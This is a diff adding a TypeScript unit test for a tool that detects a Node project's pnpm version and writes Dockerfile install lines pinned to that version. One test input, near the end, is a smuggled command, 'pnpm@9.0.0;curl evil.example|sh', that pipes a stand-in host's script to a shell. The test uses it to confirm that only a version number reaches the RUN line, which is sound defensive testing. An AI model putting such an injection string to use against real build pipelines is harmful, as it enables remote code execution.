@@ -22,6 +22,25 @@ describe('detectNode', () => {
     expect(unlocked.reasons[0]).toMatch(/No lockfile/);
   });
 
+  it('installs pnpm with npm, pinned: the version packageManager names, else the major of its lockfile format', () => {
+    const withPnpm = (packageManager: string | undefined, lock: string) =>
+      detectNode(writeTree({ 'package.json': pkg({ main: 'index.js', packageManager }), 'pnpm-lock.yaml': lock, 'index.js': '' }))!;
+    const declared = withPnpm(
+      'pnpm@9.15.0+sha512.76e2379760a4328ec4415815bcd6628dee727af3779aaa4c914e3944156c4299921a89f976381ee107d41f12cfa4b66681ca9c718f0668fa0831ed4c6d8ba56c',
+      "lockfileVersion: '9.0'\n",
+    );
+    expect(declared.pnpmVersion).toBe('9.15.0');
+    expect(declared.reasons.join('\n')).toMatch(/pnpm 9\.15\.0 \(packageManager\) is installed with npm install -g/);
+    const { singleStage, multiStage } = generateNode(declared);
+    expect(multiStage).toContain('npm install -g pnpm@9.15.0 && pnpm install --frozen-lockfile');
+    expect(singleStage).toContain('RUN npm install -g pnpm@9.15.0 && pnpm install --frozen-lockfile');
+    expect(multiStage).not.toContain('corepack');
+    expect(withPnpm(undefined, "lockfileVersion: '6.0'\n").pnpmVersion).toBe('8');
+    expect(withPnpm(undefined, 'lockfileVersion: 5.4\n').pnpmVersion).toBe('7');
+    // nothing but a version reaches the RUN line
+    expect(withPnpm('pnpm@9.0.0;curl evil.example|sh', '').pnpmVersion).toBe('9');
+  });
+
   it('finds Next.js standalone output', () => {
     const stack = detectNode(
       writeTree({
